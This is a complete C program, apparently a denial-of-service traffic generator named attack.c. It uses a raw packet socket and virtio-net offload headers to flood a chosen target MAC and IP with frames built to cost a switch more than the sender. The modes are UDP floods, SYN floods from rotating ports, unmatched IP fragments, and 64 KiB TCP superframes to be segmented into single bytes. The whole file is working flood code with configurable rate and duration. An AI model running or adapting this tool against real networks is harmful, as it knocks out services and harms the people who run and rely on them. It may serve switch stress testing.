/*
 * Sends frames of one kind, all meant to cost a switch more than they cost their sender, by a packet socket with a
 * virtio-net header.
 *
 *   attack KIND INTERFACE RATE SECONDS DESTINATION-MAC SOURCE-IP DESTINATION-IP
 *       RATE is frames a second; 0 sends as fast as one thread can. Prints how many frames the interface took.
 *
 *   udp        60 bytes, one flow                     flows      UDP, each to another port
 *   syns       TCP SYNs, each from another port       fragments  first or later fragments, each of another packet
 *   super      64 KiB of TCP to cut into 1400 bytes   tiny       64 KiB of TCP to cut into single bytes
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { HEADER = 10, SMALL = 60, LARGE = 65000, FRAGMENT = 614, IP = HEADER + 14, L4 = IP + 20 };

static uint8_t bytes[HEADER + LARGE];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void check(int failed, const char *what) {
    if (failed) {
        perror(what);
        exit(1);
    }
}

static void put16(uint8_t *at, int value) {
    at[0] = value >> 8;
    at[1] = value;
}

static uint32_t sum(const uint8_t *at, int length, uint32_t start) {
    for (int i = 0; i < length; i += 2) start += at[i] << 8 | at[i + 1];
    return start;
}

static int folded(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return sum;
}

/* Completes the headers of a frame of so many bytes. A super-frame leaves the checksum of its TCP to others. */
static void seal(int length, int fragment, int protocol, int partial) {
    put16(bytes + IP + 2, length - 14);
    put16(bytes + IP + 6, fragment);
    bytes[IP + 9] = protocol;
    put16(bytes + IP + 10, 0);
    put16(bytes + IP + 10, ~folded(sum(bytes + IP, 20, 0)));
    if (protocol == IPPROTO_TCP) {
        int tcp = length - 34;
        put16(bytes + L4 + 16, 0);
        uint32_t pseudo = sum(bytes + IP + 12, 8, protocol + tcp);
        put16(bytes + L4 + 16, partial ? folded(pseudo) : ~folded(sum(bytes + L4, tcp, pseudo)));
    }
}

/* Makes the frame with this number; returns its length. */
static int make(const char *kind, uint32_t number) {
    if (!strcmp(kind, "fragments")) {
        put16(bytes + IP + 4, number);
        seal(FRAGMENT, number & 1 ? 0x2000 : 100, IPPROTO_UDP, 0);
        return FRAGMENT;
    }
    put16(bytes + IP + 4, 0);
    put16(bytes + L4, 1024 + number % 60000);
    if (!strcmp(kind, "syns")) {
        put16(bytes + L4 + 2, 80);
        put16(bytes + L4 + 12, 0x5002);
        seal(SMALL - 6, 0, IPPROTO_TCP, 0);
        return SMALL - 6;
    }
    if (!strcmp(kind, "udp") || !strcmp(kind, "flows")) {
        put16(bytes + L4, 40000);
        put16(bytes + L4 + 2, *kind == 'u' ? 9 : 1 + number % 65000);
        put16(bytes + L4 + 4, SMALL - 34);
        seal(SMALL, 0, IPPROTO_UDP, 0);
        return SMALL;
    }
    struct virtio_net_hdr header = {.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .gso_type = VIRTIO_NET_HDR_GSO_TCPV4,
        .hdr_len = 54, .gso_size = *kind == 't' ? 1 : 1400, .csum_start = 34, .csum_offset = 16};
    memcpy(bytes, &header, HEADER);
    put16(bytes + L4, 1024);
    put16(bytes + L4 + 2, 9);
    put16(bytes + L4 + 12, 0x5010);
    seal(LARGE, 0x4000, IPPROTO_TCP, 1);
    return LARGE;
}

int main(int count, char **words) {
    if (count != 8) {
        fprintf(stderr, "usage: see the head of attack.c\n");
        return 2;
    }
    double rate = atof(words[3]), seconds = atof(words[4]);
    int s = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;
    check(s < 0, "packet socket");
    check(setsockopt(s, SOL_PACKET, PACKET_VNET_HDR, &yes, sizeof yes), "PACKET_VNET_HDR");
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex(words[2])};
    check(bind(s, (struct sockaddr *) &at, sizeof at), words[2]);
    struct ifreq own = {0};
    strncpy(own.ifr_name, words[2], IFNAMSIZ - 1);
    check(ioctl(s, SIOCGIFHWADDR, &own), "SIOCGIFHWADDR");
    uint8_t *mac = bytes + HEADER;
    check(sscanf(words[5], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6, words[5]);
    memcpy(mac + 6, own.ifr_hwaddr.sa_data, 6);
    put16(mac + 12, ETH_P_IP);
    bytes[IP] = 0x45;
    bytes[IP + 8] = 64;
    check(inet_pton(AF_INET, words[6], bytes + IP + 12) != 1, words[6]);
    check(inet_pton(AF_INET, words[7], bytes + IP + 16) != 1, words[7]);
    double start = now(), end = start + seconds;
    long taken = 0;
    for (uint32_t n = 0; now() < end; n++) {
        double due = rate > 0 ? start + n / rate : 0;
        while (now() < due) usleep(100);
        if (send(s, bytes, HEADER + make(words[1], n), MSG_DONTWAIT) >= 0) taken++;
        else check(errno != EAGAIN && errno != ENOBUFS && errno != EINTR, "send");
    }
    printf("%ld\n", taken);
    return 0;
}
